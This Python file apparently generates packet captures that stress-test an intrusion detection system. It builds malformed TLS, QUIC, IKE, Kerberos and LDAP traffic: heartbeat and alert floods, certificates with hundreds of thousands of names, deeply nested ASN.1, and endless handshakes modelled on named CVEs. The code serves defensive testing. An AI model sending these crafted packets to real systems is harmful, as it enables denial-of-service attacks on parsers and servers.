# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks on TLS, QUIC, IKE, Kerberos and LDAP: handshakes, certificates and ASN.1."""
import struct

from attacks_mail import dialogue
from catalogue import ber, ber_int, connect, entry, host, one_segment, rounds


def u16(data):
    return struct.pack(">H", len(data)) + data


def u24(data):
    return struct.pack(">I", len(data))[1:] + data


def record(kind, body):
    return struct.pack(">BHH", kind, 0x0303, len(body)) + body


def handshake(kind, body):
    return bytes([kind]) + u24(body)


def sni(name):
    return struct.pack(">H", 0) + u16(u16(b"\0" + u16(name)))


def hello(extensions, ciphers=b"\x13\x01\xc0\x2f"):
    return handshake(1, b"\3\3" + b"r" * 32 + b"\0" + u16(ciphers) + b"\1\0" + u16(extensions))


def server_hello(extensions=b""):
    return handshake(2, b"\3\3" + b"r" * 32 + b"\0\xc0\x2f\0" + u16(extensions))


def name(text, count=1):
    attribute = ber(0x31, ber(0x30, ber(6, b"\x55\x04\x03"), ber(12, text)))
    return ber(0x30, attribute * count)


def certificate(subject, alternatives=b""):
    more = ber(0xa3, ber(0x30, ber(0x30, ber(6, b"\x55\x1d\x11"), ber(4, ber(0x30, alternatives)))))
    body = ber(0x30, ber(0xa0, ber_int(2)), ber_int(77), ber(0x30, ber(6, b"\x2a\x03")),
               name(b"CA"), ber(0x30, ber(23, b"230101000000Z"), ber(23, b"330101000000Z")),
               subject, ber(0x30, ber(0x30, ber(6, b"\x2a\x03")), ber(3, b"\0key")), more)
    return ber(0x30, body, ber(0x30, ber(6, b"\x2a\x03")), ber(3, b"\0sig"))


CERTIFICATE = certificate(name(b"www.example.com"), ber(0x82, b"www.example.com"))
ORDINARY = [(0, record(22, hello(sni(b"www.example.com")))),
            (1, record(22, server_hello() + handshake(11, u24(u24(CERTIFICATE))))),
            (0, record(20, b"\1") + record(23, b"x" * 300)), (1, record(23, b"x" * 900))]
JA = 'alert tls any any -> any any (ja3.string; content:"nowhere"; sid:1;)\n' \
     'alert tls any any -> any any (ja4.hash; content:"nowhere"; sid:2;)\n' \
     'alert tls any any -> any any (tls.cert_subject; content:"nowhere"; sid:3;)\n' \
     'alert tls any any -> any any (tls.subjectaltname; content:"nowhere"; sid:4;)\n' \
     'alert tls any any -> any any (tls.certs; content:"nowhere"; sid:5;)\n'


def records(data, size):
    return b"".join(record(22, data[at:at + size]) for at in range(0, len(data), size))


def tls(what, source, hostile, called, **options):
    """An entry of a connection; hostile() gives its pieces."""
    def make(cap, size):
        dialogue(cap, size, 443, [], hostile() if size is None else [], ORDINARY)
    make.__name__ = "tls_" + called
    entry("TLS: " + what, source, rules=JA, **options)(make)


tls("records of one byte", "CVE-2004-0079 style; fragmented hellos",
    lambda: [(0, records(hello(sni(b"a") + struct.pack(">H", 21) + u16(b"\0" * 60000)), 1))],
    "tiny_records", short=True)
tls("empty records", "CVE-2024-0727 style; records without bytes",
    lambda: [ORDINARY[0], (0, record(22, b"") * 150000)], "empty_records", proto="tls")
tls("thousands of certificates in a chain", "certificate chains without end",
    lambda: [ORDINARY[0], (1, records(server_hello() + handshake(11, u24(
        u24(CERTIFICATE) * 5000)), 16000))], "certificates", proto="tls", short=True)
tls("certificate chains again and again", "renegotiation, CVE-2011-1473",
    lambda: [part for _ in range(1500) for part in ORDINARY[:2]], "renegotiation", proto="tls",
    short=True)
tls("a certificate with a subject of thousands of names", "log amplification: subjects",
    lambda: [ORDINARY[0], (1, records(server_hello() + handshake(11, u24(u24(
        certificate(name(b"a" * 10, 20000))))), 16000))], "subject", proto="tls", short=True)
tls("a certificate for thousands of names", "CVE-2021-3449 style; subjectAltName",
    lambda: [ORDINARY[0], (1, records(server_hello() + handshake(11, u24(u24(
        certificate(name(b"a"), ber(0x82, b"a") * 200000)))), 16000))], "alternatives",
    proto="tls", short=True)


def deep(n):
    out = b""
    for _ in range(n):
        out = ber(0x30, out)
        if len(out) > 60000:
            break
    return out


tls("ASN.1 in ASN.1 in a certificate", "CVE-2016-4421 style; nesting of ASN.1",
    lambda: [ORDINARY[0], (1, records(server_hello() + handshake(11, u24(u24(deep(20000)))),
                                      16000))] * 6, "asn1_nesting", short=True)
tls("a hello of thousands of extensions", "JA3 and JA4 of long lists",
    lambda: [(0, records(hello(b"".join(struct.pack(">HH", i, 0) for i in range(15000)),
                               b"\x13\x01" * 30000), 16000))], "extensions", proto="tls",
    short=True)
tls("hellos again and again in one connection", "JA3 and JA4 of long lists",
    lambda: [(0, records(hello(b"".join(struct.pack(">HH", i, 0) for i in range(3000)),
                               b"\x13\x02" * 3000), 16000) * 40)], "hellos", proto="tls")
tls("a server name of 60 KB", "log amplification: names",
    lambda: [(0, records(hello(sni(b"a" * 60000)), 16000))] * 10, "long_name", proto="tls")
tls("ALPN of thousands of protocols", "loops over lists",
    lambda: [(0, records(hello(sni(b"a") + struct.pack(">H", 16) + u16(u16(b"\1h" * 30000))),
                         16000))], "alpn", proto="tls", short=True)
tls("a handshake message of 16 MB that never ends", "CVE-2014-3512 style; lengths that promise",
    lambda: [ORDINARY[0], (1, record(22, b"\x0b\xff\xff\xff" + b"a" * 10000) +
                           record(22, b"a" * 16000) * 50)], "promise")
tls("alerts without end", "CVE-2016-8610, SSL death alert",
    lambda: [ORDINARY[0], (0, record(21, b"\1\0") * 110000)], "alerts", proto="tls", short=True)
tls("heartbeats without end", "CVE-2014-0160, heartbeats",
    lambda: [*ORDINARY[:2], (0, record(24, b"\1\xff\xffa") * 90000)], "heartbeats", proto="tls")


@entry("TLS: hellos cut into segments, in many connections that stay open",
       "memory held by handshakes", rules=JA, proto="tls")
def tls_open_hellos(cap, size):
    if size is not None:
        dialogue(cap, size, 443, [], [], ORDINARY)
        return
    for i in range(700):
        flow = connect(cap, 443, i)
        one_segment(flow, 0, record(22, hello(sni(b"a" * 4000)))[:1200])


def varint(n):
    return struct.pack(">H", n | 0x4000) if n < 16384 else struct.pack(">I", n | 0x80000000)


def hkdf(secret, label, length):
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.kdf.hkdf import HKDFExpand
    label = b"tls13 " + label
    info = struct.pack(">HB", length, len(label)) + label + b"\0"
    return HKDFExpand(hashes.SHA256(), length, info).derive(secret)


class Quic:
    """Packets of type Initial from a client, with the keys that its connection id gives."""

    def __init__(self, ident):
        from cryptography.hazmat.primitives import hashes, hmac
        extract = hmac.HMAC(bytes.fromhex("38762cf7f55934b34d179ae6a4c80cadccbb7f0a"),
                            hashes.SHA256())
        extract.update(ident)
        secret = hkdf(extract.finalize(), b"client in", 32)
        self.ident = ident
        self.key, self.iv, self.hp = (hkdf(secret, b"quic " + label, n) for label, n in (
            (b"key", 16), (b"iv", 12), (b"hp", 16)))
        self.number = 0

    def initial(self, frames):
        from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
        from cryptography.hazmat.primitives.ciphers.aead import AESGCM
        frames = frames.ljust(40, b"\0")
        number = struct.pack(">I", self.number)
        head = b"\xc3\0\0\0\1" + bytes([len(self.ident)]) + self.ident + b"\0\0" + \
            varint(len(frames) + 20) + number
        nonce = (int.from_bytes(self.iv, "big") ^ self.number).to_bytes(12, "big")
        body = AESGCM(self.key).encrypt(nonce, frames, head)
        mask = Cipher(algorithms.AES(self.hp), modes.ECB()).encryptor().update(body[:16])
        self.number += 1
        head = bytes([head[0] ^ mask[0] & 15]) + head[1:-4] + bytes(
            a ^ b for a, b in zip(number, mask[1:]))
        return head + body


def crypto(offset, data):
    return b"\6" + varint(offset) + varint(len(data)) + data


def quic(cap, size, hostile, count):
    """hostile(i): the frames of the i-th packet and how many packets a connection has."""
    connection = None
    for i in rounds(cap, size, count):
        each = 5 if size is not None else hostile(-1)
        if i % each == 0:
            connection = Quic(struct.pack(">Q", i))
        frames = hostile(i % each) if size is None else crypto(0, hello(sni(b"www.example.com"))) \
            if i % each == 0 else b"\1" * 200
        cap.udp(host(0x10000 + i // each), 4000 + i // each % 50000, "192.168.0.1", 443,
                connection.initial(frames))


@entry("QUIC: pieces of a handshake with gaps", "memory held by gaps in CRYPTO frames", short=True, proto="quic")
def quic_gaps(cap, size):
    quic(cap, size, lambda i: 300 if i < 0 else b"".join(
        crypto(1 + 3 * (i * 200 + j), b"a") for j in range(200)), 900)


@entry("QUIC: a piece far behind, in many connections", "memory held by gaps in CRYPTO frames",
       short=True, proto="quic")
def quic_far(cap, size):
    quic(cap, size, lambda i: 1 if i < 0 else crypto(60000, b"a" * 20), 4000)


@entry("QUIC: a connection id for each packet", "keys derived for each packet", short=True, proto="quic")
def quic_ids(cap, size):
    if size is not None:
        quic(cap, size, None, 0)
        return
    for i in range(8000):
        cap.udp("10.0.0.1", 4000, "192.168.0.1", 443, b"\xc3\0\0\0\1\x08" + struct.pack(">Q", i) +
                b"\0\0\x40\x40" + b"x" * 64)


@entry("QUIC: packets in one datagram, each with a key of its own", "coalesced packets", proto="quic")
def quic_coalesced(cap, size):
    if size is not None:
        quic(cap, size, None, 0)
        return
    for i in range(800):
        cap.udp("10.0.0.1", 4000, "192.168.0.1", 443, b"".join(
            b"\xc3\0\0\0\1\x08" + struct.pack(">Q", i * 40 + j) + b"\0\0\x15" + b"x" * 21
            for j in range(30)))


@entry("QUIC: frames of one byte", "loops over frames", proto="quic")
def quic_frames(cap, size):
    quic(cap, size, lambda i: 100 if i < 0 else b"\1\0" * 650, 700)


IKE_HEAD = struct.Struct(">8s8sBBBBII")


def ike(i, first, payloads):
    return IKE_HEAD.pack(struct.pack(">Q", i + 1), b"\0" * 8, first, 0x20, 34, 8, 0,
                         28 + len(payloads)) + payloads


def proposals(count):
    transform = struct.pack(">BBHBBH", 3, 0, 8, 1, 0, 12)
    out = b""
    for i in range(count):
        last = i == count - 1
        body = struct.pack(">BBHBBBB", 0 if last else 2, 0, 8 + 8 * 4, i + 1 & 255, 1, 0, 4)
        out += body + transform * 3 + b"\0" + transform[1:]
    return struct.pack(">BBH", 0, 0, 4 + len(out)) + out


@entry("IKE: proposals without end", "loops over proposals and transforms", short=True,
       proto="ike")
def ike_proposals(cap, size):
    for i in rounds(cap, size, 700):
        cap.udp("10.0.0.1" if size is None else host(i % 100), 500, "192.168.0.1", 500,
                ike(i, 33, proposals(33 if size is None else 1)))


@entry("IKE: payloads of no bytes", "loops over payloads", proto="ike")
def ike_payloads(cap, size):
    for i in rounds(cap, size, 700):
        cap.udp("10.0.0.1" if size is None else host(i % 100), 500, "192.168.0.1", 500,
                ike(i, 43, b"\x2b\0\0\4" * 340 + b"\0\0\0\4") if size is None else
                ike(i, 33, proposals(1)))


def krb_request(more=b""):
    realm = ber(0x1b, b"EXAMPLE.COM")
    principal = ber(0x30, ber(0xa0, ber_int(1)), ber(0xa1, ber(0x30, more or ber(0x1b, b"user"))))
    body = ber(0x30, ber(0xa0, ber(3, b"\0\0\0\0\0")), ber(0xa1, principal), ber(0xa2, realm),
               ber(0xa3, principal), ber(0xa5, ber(0x18, b"20370913024805Z")),
               ber(0xa7, ber_int(5)), ber(0xa8, ber(0x30, ber_int(18), ber_int(17))))
    return ber(0x6a, ber(0x30, ber(0xa1, ber_int(5)), ber(0xa2, ber_int(10)), ber(0xa4, body)))


@entry("Kerberos: requests without an answer", "transactions that stay open", short=True,
       proto="krb5")
def krb5_requests(cap, size):
    for i in rounds(cap, size, 5000):
        cap.udp("10.0.0.1" if size is None else host(i % 200), 5000, "192.168.0.1", 88,
                krb_request())


@entry("Kerberos: a principal of thousands of parts", "CVE-2020-28196 style; ASN.1", short=True, proto="krb5")
def krb5_principals(cap, size):
    for i in rounds(cap, size, 700):
        cap.udp(host(i % 200), 5000, "192.168.0.1", 88, krb_request(
            ber(0x1b, b"a") * 200 if size is None else b""))


@entry("Kerberos: ASN.1 in ASN.1", "CVE-2020-28196, nesting of ASN.1", short=True, proto="krb5")
def krb5_nesting(cap, size):
    for i in rounds(cap, size, 700):
        cap.udp(host(i % 200), 5000, "192.168.0.1", 88, krb_request(
            deep(430) if size is None else b""))


def ldap_message(ident, operation):
    return ber(0x30, ber_int(ident), operation)


def ldap_search(filters):
    return ber(0x63, ber(4, b"dc=a"), ber(10, b"\2"), ber(10, b"\0"), ber_int(0), ber_int(0),
               ber(1, b"\0"), filters, ber(0x30, ber(4, b"cn")))


LDAP_PRESENT = ber(0x87, b"objectClass")
LDAP_ORDINARY = [(0, ldap_message(1, ldap_search(LDAP_PRESENT))),
                 (1, ldap_message(1, ber(0x65, ber(10, b"\0"), ber(4), ber(4))))]


@entry("LDAP: filters in filters", "CVE-2020-12243, nesting of filters", short=True, proto="ldap")
def ldap_nesting(cap, size):
    def filters(n):
        out = LDAP_PRESENT
        for _ in range(n):
            out = ber(0xa2, out)
        return out
    dialogue(cap, size, 389, [], [(0, ldap_message(i, ldap_search(filters(1000))))
                                  for i in range(1, 180)], LDAP_ORDINARY)


@entry("LDAP: requests without an answer", "transactions that stay open", short=True,
       proto="ldap")
def ldap_requests(cap, size):
    dialogue(cap, size, 389, [], [(0, b"".join(ldap_message(
        i, ldap_search(LDAP_PRESENT)) for i in range(1, 15000)))], LDAP_ORDINARY)


@entry("LDAP: answers without end to one request", "log amplification: answers", short=True,
       proto="ldap")
def ldap_answers(cap, size):
    dialogue(cap, size, 389, [], [LDAP_ORDINARY[0], (1, ldap_message(
        1, ber(0x64, ber(4, b"dc=a"), ber(0x30))) * 50000)], LDAP_ORDINARY)


@entry("LDAP: answers to no request", "log amplification: records by message", proto="ldap")
def ldap_unasked(cap, size):
    dialogue(cap, size, 389, [], [LDAP_ORDINARY[0], (1, b"".join(ldap_message(
        i, ber(0x65, ber(10, b"\0"), ber(4), ber(4))) for i in range(9, 40000)))], LDAP_ORDINARY)
